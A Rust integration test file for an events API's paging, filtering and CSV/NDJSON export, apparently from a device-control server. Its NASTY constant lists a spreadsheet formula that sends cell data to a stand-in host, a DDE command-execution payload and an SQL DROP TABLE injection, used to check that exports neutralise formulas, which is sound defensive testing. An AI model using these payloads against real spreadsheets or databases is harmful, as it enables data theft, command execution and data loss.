//! `GET /api/v1/events`, one event, and the export.

use serde_json::{Value, json};

use super::Table;
use crate::harness::{Answer, Manner, Server, until};

/// Adds an event with these words, beside the server.
async fn add(table: &mut Table, at: &str, actor: &str, detail: &str) {
    let query = "INSERT INTO events (at, kind, actor, through, address, action, result, detail) \
                 VALUES ($1, 'account', $2, 'http', '192.0.2.7', 'add', 'ok', $3)";
    let at = at.parse::<jiff::Timestamp>().unwrap().as_millisecond();
    let query = sqlx::query(query).bind(at).bind(actor).bind(detail);
    query.execute(&mut table.0).await.unwrap();
}

fn events(answer: &Answer) -> Vec<Value> {
    assert_eq!(answer.status, 200, "{}", answer.json());
    answer.json()["events"].as_array().unwrap().clone()
}

#[tokio::test]
async fn events_are_paged_newest_first_and_each_has_its_own_address() {
    let server = Server::start().await;
    let _hall = server.light("hall", Manner::Obeys).await;
    for verb in ["on", "off", "on"] {
        let body = json!({ "verb": verb });
        server.post_json("/api/v1/devices/hall/commands", &body).await.devices(200);
    }
    let ends = "/api/v1/events?kind=command&result=confirmed&limit=2";
    let first = server.get(&format!("{ends}&count=true")).await;
    assert_eq!(first.json()["total"], 3);
    let cursor = first.json()["next_cursor"].as_i64().unwrap();
    let second = server.get(&format!("{ends}&cursor={cursor}")).await;
    assert!(second.json()["next_cursor"].is_null());
    let all: Vec<_> = [events(&first), events(&second)].concat();
    let verbs: Vec<_> = all.iter().map(|event| event["action"].as_str().unwrap()).collect();
    assert_eq!(verbs, ["on", "off", "on"]);
    assert!(all.windows(2).all(|two| two[0]["seq"].as_i64() > two[1]["seq"].as_i64()));
    let one = &all[0];
    assert_eq!((&one["device"], &one["result"]), (&json!("hall"), &json!("confirmed")));
    assert_eq!((&one["through"], &one["address"]), (&json!("http"), &json!("127.0.0.1")));
    assert_eq!(one["at"].as_str().unwrap().len(), "2026-05-04T18:03:09.120Z".len());
    let found = server.get(&format!("/api/v1/events/{}", one["seq"])).await.json();
    assert_eq!(found, *one);
    for path in ["/api/v1/events/0", "/api/v1/events/x", "/api/v1/events/-1"] {
        server.get(path).await.problem(404, "not-found");
    }
    server.stop().await;
}

#[tokio::test]
async fn events_are_found_by_actor_kind_device_result_and_time() {
    let server = Server::start().await;
    let mut table = Table::of(server.folder()).await;
    until("the start to be on record", async || {
        (table.number("SELECT count(*) FROM events WHERE kind = 'server'").await == 1).then_some(())
    })
    .await;
    add(&mut table, "2020-01-01T10:00:00Z", "app:ada", "one").await;
    add(&mut table, "2020-01-02T10:00:00Z", "app:bob", "two").await;
    add(&mut table, "2020-01-03T10:00:00Z", "app:ada", "three").await;
    server.lock("front", Manner::Obeys).await.leave(&server).await;
    server.post("/lock?device=front").await.devices(409);
    let details = async |query: &str| {
        let found = events(&server.get(&format!("/api/v1/events?{query}")).await);
        let detail = |event: &Value| event["detail"].as_str().unwrap_or("-").to_owned();
        found.iter().map(detail).collect::<Vec<_>>()
    };
    assert_eq!(details("actor=app:ada").await, ["three", "one"]);
    assert_eq!(details("actor=app:ad").await, [""; 0]);
    assert_eq!(details("kind=account&result=ok&to=2020-01-03").await, ["two", "one"]);
    assert_eq!(details("from=2020-01-02T10:00:00Z&to=2020-01-03T10:00:00Z").await, ["two"]);
    assert_eq!(details("from=2020-01-02&kind=account&actor=app:ada").await, ["three"]);
    let of_front = details("device=front&kind=command").await;
    assert_eq!(of_front, ["the device is not connected", "-"], "its end, and that it was issued");
    assert_eq!(details("device=front&result=offline").await, of_front[..1]);
    assert_eq!(details("device=back").await, [""; 0]);
    for query in [
        "kind=nothing",
        "from=yesterday",
        "to=2020-01-03T10:00",
        "device=No%20id",
        "limit=0",
        "limit=1001",
        "cursor=x",
        "color=red",
    ] {
        server.get(&format!("/api/v1/events?{query}")).await.problem(400, "malformed");
    }
    server.stop().await;
}

/// What a spreadsheet would execute, and what breaks lines and columns.
const NASTY: [&str; 9] = [
    "=HYPERLINK(\"http://192.0.2.66/?\"&A1,\"open\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "a \"quoted\", comma; semicolon",
    "two\r\nlines",
    "ünïcödé \u{1F6AA}",
    "'; DROP TABLE events; --",
];

#[tokio::test]
async fn an_export_has_every_event_whatever_stands_in_it_and_no_formula() {
    let server = Server::start().await;
    let mut table = Table::of(server.folder()).await;
    table.events_when("server", 1).await;
    for text in NASTY {
        add(&mut table, "2020-01-01T10:00:00Z", "app:ada", text).await;
    }
    let csv = server.get("/api/v1/events/export?kind=account").await;
    assert_eq!(csv.status, 200);
    assert!(csv.header("content-type").starts_with("text/csv"));
    assert_eq!(csv.header("content-disposition"), "attachment; filename=\"latchlight-events.csv\"");
    let mut reader = csv::Reader::from_reader(csv.body.as_ref());
    let names: Vec<_> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(
        names.join(","),
        "seq,at,kind,actor,through,address,device,command,action,result,detail,times"
    );
    let rows: Vec<_> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), NASTY.len());
    for (row, text) in rows.iter().zip(NASTY) {
        let detail = row.get(10).unwrap();
        assert_eq!(
            detail.strip_prefix('\'').unwrap_or(detail),
            text.strip_prefix('\'').unwrap_or(text)
        );
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?}");
        }
        assert_eq!((row.get(1), row.get(5)), (Some("2020-01-01T10:00:00.000Z"), Some("192.0.2.7")));
    }
    let ndjson = server.get("/api/v1/events/export?format=ndjson&kind=account").await;
    let text = std::str::from_utf8(&ndjson.body).unwrap();
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let details: Vec<_> = lines.iter().map(|line| line["detail"].as_str().unwrap()).collect();
    assert_eq!(details, NASTY);
    server.get("/api/v1/events/export?format=xls").await.problem(400, "malformed");
    let head = server.client.head(server.url("/api/v1/events/export"));
    assert_eq!(server.send(head).await.status, 200);
    // Who takes the record away is on record.
    let exports = table.events("record").await;
    assert_eq!(exports.len(), 2, "{exports:?}");
    assert_eq!((&*exports[0].action, &*exports[0].through), ("export", "http"));
    server.stop().await;
}

#[tokio::test]
async fn an_export_of_many_pages_is_whole_and_in_order() {
    let server = Server::start().await;
    let mut table = Table::of(server.folder()).await;
    table.events_when("server", 1).await;
    let add = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 2500) \
               INSERT INTO events (at, kind, actor, through, action, result, detail) \
               SELECT 0, 'account', 'app:x', 'http', 'add', 'ok', i FROM n";
    table.execute(add).await.unwrap();
    let export = server.get("/api/v1/events/export?format=ndjson&actor=app:x").await;
    let text = std::str::from_utf8(&export.body).unwrap();
    let number = |line: &str| {
        let line: Value = serde_json::from_str(line).unwrap();
        line["detail"].as_str().unwrap().parse::<u32>().unwrap()
    };
    assert!(text.lines().map(number).eq(1..=2500));
    server.stop().await;
}
